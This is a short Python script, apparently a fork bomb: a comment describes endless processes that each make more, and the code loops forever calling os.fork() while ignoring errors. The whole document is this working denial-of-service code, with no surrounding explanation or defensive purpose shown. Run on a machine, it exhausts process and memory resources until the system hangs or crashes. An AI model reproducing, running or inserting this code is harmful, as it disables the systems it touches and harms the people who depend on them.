# Processes without end, each of which makes more.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
